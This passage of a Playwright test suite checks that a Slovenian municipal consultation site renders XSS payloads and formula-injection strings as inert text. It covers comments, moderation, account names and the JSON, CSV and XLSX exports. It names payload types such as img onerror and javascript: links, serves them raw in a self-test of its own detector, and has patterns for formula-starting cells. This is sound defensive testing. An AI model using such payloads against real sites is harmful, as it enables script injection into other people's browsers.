    expectRedirect(await post(moderator, `/moderacija/pripombe/${c.id}`, { intent: 'tags', tags: plainTag }), `tag on ${c.id}`);
  }

  // Accounts named with payloads: invited into Občina Bled by the administrator, accepted by a plain post.
  const organisationId = await bledOrganisationId(admin);
  const accounts: NamedAccount[] = [];
  for (const [i, name] of fields.name.entries()) {
    const email = `xss-ime-${i + 1}-${run}@obcina-e2e.si`;
    const path = await invite(admin, organisationId, email);
    const context = await browser.newContext({ baseURL: baseURL() });
    const password = `Zelena jablana cveti ${run} ${i}`;
    const accepted = await post(context, path, { username: email, name: name.raw, password, passwordConfirm: password });
    expectRedirect(accepted, `accepting the invitation as "${name.label}"`);
    expect(accepted.headers().location).toBe('/moj-racun');
    accounts.push({ email, name, state: await context.storageState() });
    await context.close();
  }

  const states = { bled: await bled.storageState(), zmos: await zmos.storageState(), moderator: await moderator.storageState(), admin: await admin.storageState() };
  for (const context of opened) await context.close();
  return { run, payloads, fields, comments, accounts, refusedTags, acceptedTags, plainTag, states };
}

// ——— tests —————————————————————————————————————————————————————————————————————————————————

test.describe('XSS payloads and formulas stay inert', () => {
  // In order, in one worker, sharing what beforeAll wrote; a failure does not skip the rest.
  test.describe.configure({ mode: 'default', timeout: 180_000 });

  test.beforeAll(async ({ browser, server }) => {
    test.setTimeout(180_000);
    // After a failed test the next one runs in a fresh worker on the same database: it reuses what was written.
    const file = join(server.dir, SEED_FILE);
    try {
      seeded = JSON.parse(readFileSync(file, 'utf8'));
    } catch {
      seeded = await seed(browser);
      writeFileSync(file, JSON.stringify(seeded));
    }
  });


  test('the payloads: at least fifty, distinct, each in a field, at least five per field', async () => {
    const { payloads, fields } = seeded;
    expect(payloads.length).toBeGreaterThanOrEqual(50);
    expect(new Set(payloads.map((p) => p.raw)).size).toBe(payloads.length);
    expect(new Set(payloads.map((p) => p.marker)).size).toBe(payloads.length);
    const used = new Set(Object.values(fields).flat().map((p) => p.n));
    expect(payloads.filter((p) => !used.has(p.n)).map((p) => p.label), 'payloads in no field').toEqual([]);
    for (const field of FIELDS) expect(fields[field].length, `payloads in ${field}`).toBeGreaterThanOrEqual(5);
    await test.info().attach('payloads per field', {
      contentType: 'text/plain',
      body: FIELDS.map((f) => `${f}: ${fields[f].map((p) => `#${p.n} ${p.label}`).join('; ')}`).join('\n'),
    });
    expect(fields.body.length).toBe(COMMENT_COUNT);
    // Tags are letters, digits, spaces, hyphens and underscores: markup is refused, not stored.
    for (const p of seeded.refusedTags) expect(p.stored, `refused tag "${p.label}"`).not.toMatch(/^[\p{L}\p{N} _-]+$/u);
  });

  test('the checks themselves: a page that does render the payloads as HTML is caught', async ({ browser }) => {
    // Served from the app's origin but not by the app (no CSP), the payloads pasted in raw.
    const w = await watchedPage(browser);
    const raw = seeded.payloads.filter((p) => ['img onerror', 'svg onload', 'iframe srcdoc', 'anchor with javascript:', 'details ontoggle', 'script setting a flag'].includes(p.label));
    await w.page.route('**/xss-samopreizkus', (route) => route.fulfill({ contentType: 'text/html', body: `<!doctype html><title>t</title><body>${raw.map((p) => p.raw).join('\n')}</body>` }));
    await w.page.goto('/xss-samopreizkus');
    const reported = ['img', 'event handler onload', 'element <iframe', 'script URL in href', 'event handler ontoggle', 'window.__xss'];
    await expect
      .poll(async () => {
        const found = await injectedThings(w.page, seeded.run);
        return reported.filter((what) => !found.some((f) => f.startsWith(what)));
      }, { message: 'what the check does not report (yet)' })
      .toEqual([]);
    await expect.poll(() => w.dialogs.length, { message: 'dialogs are recorded' }).toBeGreaterThan(0);
    await expect.poll(() => w.problems.some((p) => p.startsWith('request:')), { message: 'the broken image is requested' }).toBe(true);
    await close(w);
  });

  test('public pages: chapters, blocks, permalinks and the report show the payloads as text', async ({ browser }) => {
    const { comments } = seeded;
    const reader = await watchedPage(browser);

    for (const chapter of CHAPTERS) {
      const here = comments.filter((c) => c.chapter === chapter);
      await checkPage(reader, `/osnutek/${chapter}`, { full: here.flatMap((c) => publicTexts(c)) }, async (page) => {
        expect((await page.goto(`/osnutek/${chapter}`))?.status()).toBe(200);
        for (const number of new Set(here.map((c) => c.blockNumber))) {
          const details = page.locator(`#odstavek-${number.replace('.', '-')} details.block__comments`);
          await details.locator('summary').click();
          await expect(details).toHaveAttribute('open', '');
        }
      });
      for (const position of new Set(here.map((c) => c.position))) {
        const onBlock = here.filter((c) => c.position === position);
        await checkPage(reader, `/osnutek/${chapter}/${position}`, { full: onBlock.flatMap((c) => publicTexts(c)) });
      }
    }

    for (const c of comments) {
      await checkPage(reader, `/pripombe/${c.id}`, { full: publicTexts(c), exact: simple(c.body.stored) ? [c.body.stored] : [] });
      // Plain text with an address becomes a link — to that http(s) address only, never further.
      const linked = [c.body, c.rationale, c.response].filter((p) => p && /https?:\/\/[^\s<>"']/.test(p.stored));
      if (linked.length) {
        const links = reader.page.locator('.plain-text a');
        await expect(links.first(), `a link made of the address in comment ${c.id}`).toBeVisible();
        for (const href of await links.evaluateAll((as) => as.map((a) => (a as HTMLAnchorElement).href))) {
          expect(href, `link in comment ${c.id}`).toMatch(/^https?:\/\/[^\s<>"']+$/);
        }
        await expect(links.first()).toHaveAttribute('rel', 'nofollow ugc noopener noreferrer');
      }
    }
    await reader.page.goto(`/pripombe/${comments[0].id}`);
    await expectNoAxeViolations(reader.page);

    await checkPage(reader, '/porocilo', { full: comments.flatMap((c) => publicTexts(c, { rationale: false })) });
    await close(reader);
  });

  test("authors: the organisation's own list, and a refused form that echoes what was typed", async ({ browser }) => {
    const { comments, payloads } = seeded;
    for (const author of ['bled', 'zmos'] as const) {
      const w = await watchedPage(browser, seeded.states[author]);
      const own = comments.filter((c) => c.author === author);
      await checkPage(w, '/organizacija/pripombe', { excerpt: own.map((c) => c.body.stored) });
      // The author's view of a permalink (with the withdrawal form).
      await checkPage(w, `/pripombe/${own[0].id}`, { full: publicTexts(own[0]) });
      await close(w);
    }

    // An amendment without proposed text is refused; the page shows the form again with what was typed.
    const echoed = payloads.filter((p) => /<\/textarea>|"|'>/.test(p.raw) && !/[\u0000-\u0008\u000B-\u001F\u007F\r]/.test(p.raw)).slice(0, 2);
    expect(echoed).toHaveLength(2);
    const w = await watchedPage(browser, seeded.states.bled);
    const path = `/osnutek/${CHAPTERS[0]}/5`;
    await checkPage(w, `${path} (refused amendment)`, {}, async (page) => {
      await page.goto(path);
      await page.getByRole('radio', { name: 'Predlog spremembe besedila', exact: true }).check();
      // The proposed text comes filled in with the block's text: emptied, the amendment is refused.
      await page.locator('#predlog').fill('');
      await page.getByLabel('Besedilo pripombe', { exact: true }).fill(echoed[0].raw);
      await page.getByLabel('Obrazložitev (neobvezno)').fill(echoed[1].raw);
      const [response] = await Promise.all([
        page.waitForResponse((r) => r.request().method() === 'POST' && new URL(r.url()).pathname === path),
        page.getByRole('button', { name: 'Oddaj pripombo' }).click(),
      ]);
      expect(response.status()).toBe(400);
      await page.waitForLoadState();
    });
    await expect(w.page.getByLabel('Besedilo pripombe', { exact: true })).toHaveValue(echoed[0].raw);
    await expect(w.page.getByLabel('Obrazložitev (neobvezno)')).toHaveValue(echoed[1].raw);
    await close(w);
  });

  test('moderation: the queue and each comment show the payloads as text; form fields hold them verbatim', async ({ browser }) => {
    const { comments, run, acceptedTags, refusedTags, plainTag, payloads } = seeded;
    const w = await watchedPage(browser, seeded.states.moderator);
    const { page } = w;

    const queueUrl = `/moderacija?${new URLSearchParams({ text: run })}`;
    await checkPage(w, queueUrl, { excerpt: comments.map((c) => c.body.stored), full: acceptedTags.map((p) => p.stored) });
    await expect(page.locator('tr[data-queue-row]')).toHaveCount(comments.length);
    await expectNoAxeViolations(page);

    // Filtered by a payload tag the server kept (it is also an option of the tag filter).
    if (acceptedTags.length) {
      const tag = acceptedTags[0].stored;
      await checkPage(w, `/moderacija?${new URLSearchParams({ tag })}`, { excerpt: [comments[0].body.stored] });
      await expect(page.locator('tr[data-queue-row]')).toHaveCount(1);
    }
    await checkPage(w, `/moderacija?${new URLSearchParams({ tag: plainTag })}`, { excerpt: comments.map((c) => c.body.stored) });

    // The text filter echoes a payload into its field.
    const echoed = payloads.find((p) => p.label === 'autofocus onfocus')!;
    await checkPage(w, `/moderacija?${new URLSearchParams({ text: echoed.raw })}`);
    await expect(page.getByRole('search', { name: 'Filtri' }).getByLabel('Besedilo vsebuje')).toHaveValue(echoed.raw);

    for (const c of comments) {
      const texts = [c.body, c.proposedText, c.rationale, ...c.notes].filter((p): p is Payload => !!p).map((p) => p.stored);
      await checkPage(w, `/moderacija/pripombe/${c.id}`, { full: texts, exact: simple(c.body.stored) ? [c.body.stored] : [] });
      await expect(page.locator('textarea#odziv'), `response field of ${c.id}`).toHaveValue(c.response?.stored ?? '');
      await expect(page.locator('input#oznake'), `tags field of ${c.id}`).toHaveValue(c.tags.join(', '));
    }
    for (const p of refusedTags) {
      expect(comments[0].tags, `refused tag "${p.label}" not stored`).not.toContain(p.stored);
    }
    await close(w);
  });

  test('accounts: payload names on /admin, /organizacija and /moj-racun are text', async ({ browser }) => {
    const { accounts, payloads } = seeded;
    const names = accounts.map((a) => a.name.stored);

    const admin = await watchedPage(browser, seeded.states.admin);
    await checkPage(admin, '/admin', { full: names });
    await checkPage(admin, '/admin/dnevnik');
    const searched = payloads.find((p) => p.label === 'double quote then img')!;
    await checkPage(admin, `/admin?${new URLSearchParams({ iskanje: searched.raw })}`);
    await expect(admin.page.locator('#iskanje')).toHaveValue(searched.raw.trim().slice(0, 100));

    const bled = await watchedPage(browser, seeded.states.bled);
    await checkPage(bled, '/organizacija', { full: names });
    await close(bled);

    for (const account of accounts) {
      const w = await watchedPage(browser, account.state);
      await checkPage(w, '/moj-racun', { full: [`Prijavljeni ste kot ${account.name.stored} (Občina Bled).`] });
      await expect(w.page.getByLabel('Ime in priimek'), `name field for "${account.name.label}"`).toHaveValue(account.name.stored);
      await close(w);
    }

    // A refused invitation form (the passwords differ) shows the typed name again, as a value.
    const email = `xss-ime-zavrnjeno-${seeded.run}@obcina-e2e.si`;
    const path = await invite(admin.page.context(), await bledOrganisationId(admin.page.context()), email);
    const guest = await watchedPage(browser);
    const name = payloads.find((p) => p.label === 'single-quoted onmouseover')!;
    await checkPage(guest, `${path} (refused)`, {}, async (page) => {
      await page.goto(path);
      await page.getByLabel('Ime in priimek').fill(name.raw);
      await page.getByLabel('Geslo', { exact: true }).fill('Zelena jablana cveti 1');
      await page.getByLabel('Ponovite novo geslo').fill('Zelena jablana cveti 2');
      const [response] = await Promise.all([page.waitForResponse((r) => r.request().method() === 'POST'), page.getByRole('button', { name: 'Ustvari račun' }).click()]);
      expect(response.status()).toBe(400);
      await page.waitForLoadState();
    });
    await expect(guest.page.getByLabel('Ime in priimek')).toHaveValue(name.raw);
    await close(guest);
    await close(admin);
  });

  test('open data and downloads: JSON literal, CSV with formulas defused, XLSX without formulas', async ({ request }) => {
    const { comments } = seeded;
    const fieldsOf = (c: SeededComment) => [c.body, c.proposedText, c.rationale, c.response].filter((p): p is Payload => !!p);

    // JSON: the strings as stored, literally.
    const jsonResponse = await request.get('/api/v1/comments');
    expect(jsonResponse.headers()['content-type']).toContain('application/json');
    const json: Array<{ id: number; body: string; proposedText: string | null; rationale: string | null; response: string | null }> = await jsonResponse.json();
    for (const c of comments) {
      const found = json.find((j) => j.id === c.id);
      expect(found, `comment ${c.id} in the JSON`).toMatchObject({
        body: c.body.stored,
        proposedText: c.proposedText?.stored ?? null,
        rationale: c.rationale?.stored ?? null,
        response: c.response?.stored ?? null,
      });
    }

    // CSV: every cell quoted; a formula-like start gets an apostrophe; no cell starts a formula.
    // The open data is comma-separated for programs; the report's CSV uses ";" for a Slovenian spreadsheet.
    for (const [url, separator] of [['/api/v1/comments?format=csv', ','], ['/porocilo.csv', ';']]) {
      const response = await request.get(url);
      expect(response.status(), url).toBe(200);
      expect(response.headers()['content-type'], url).toContain('text/csv');
      const raw = await response.text();
      const rows = parseCsv(raw, separator);
      const cells = rows.flat();
      expect(cells.filter((c) => !c.quoted).map((c) => c.value).slice(0, 5), `unquoted cells in ${url}`).toEqual([]);
      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c.value)).map((c) => c.value.slice(0, 80)), `cells that start a formula in ${url}`).toEqual([]);
      for (const c of comments) {
        const row = rows.find((r) => r[0]?.value === String(c.id))?.map((cell) => cell.value);
        expect(row, `comment ${c.id} in ${url}`).toBeDefined();
        if (!row) continue;
        for (const p of fieldsOf(c)) {
          expect(row, `"${p.label}" of ${c.id} in ${url}`).toContain(csvGuarded(p.stored));
          if (p.formula) expect(raw, `"${p.label}" as a quoted cell with an apostrophe in ${url}`).toContain(`"'${p.stored.replace(/"/g, '""')}"`);
        }
      }
    }

    // XLSX: a zip whose sheets have no formula element; the texts are there, XML-escaped, as text cells.
    const response = await request.get('/porocilo.xlsx');
    expect(response.status()).toBe(200);
    const zip = await response.body();
    expect(zip.subarray(0, 4).equals(Buffer.from([0x50, 0x4b, 0x03, 0x04])), 'a zip archive').toBe(true);
    const files = unzip(zip);
    const xml = [...files.entries()].filter(([name]) => name.endsWith('.xml'));
    expect(xml.length).toBeGreaterThan(0);
    for (const [name, content] of xml) {
      expect(content, `${name} has no formula`).not.toMatch(/<f[\s>/]/);
      // XML 1.0 allows tab, LF, CR and U+0020–U+D7FF, U+E000–U+FFFD, U+10000–U+10FFFF: anything else makes the file unreadable.
      const invalid = [...content.matchAll(/[^\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/gu)].map((m) => `U+${m[0].codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')} at ${m.index}`);
      expect(invalid, `characters XML does not allow in ${name} (Excel reports the workbook as damaged)`).toEqual([]);
    }
    const allXml = xml.map(([, content]) => content).join('\n');
    const rows = xlsxRows(files);
    for (const c of comments) {
      const row = rows.find((r) => r[0]?.value === String(c.id));
      expect(row, `comment ${c.id} in the XLSX`).toBeDefined();
      if (!row) continue;
      for (const p of fieldsOf(c)) {
        const cell = row.find((x) => x.value === xlsxForm(p.stored));
        expect(cell, `"${p.label}" of ${c.id} as a cell of the XLSX`).toBeDefined();
        if (cell) {
          expect(['s', 'inlineStr'], `"${p.label}" of ${c.id} is a text cell`).toContain(cell.type);
          expect(cell.hasFormula).toBe(false);
        }
        expect(xmlEscapings(xlsxForm(p.stored)).some((e) => allXml.includes(e)), `"${p.label}" XML-escaped in the XLSX`).toBe(true);
      }
    }
  });
});
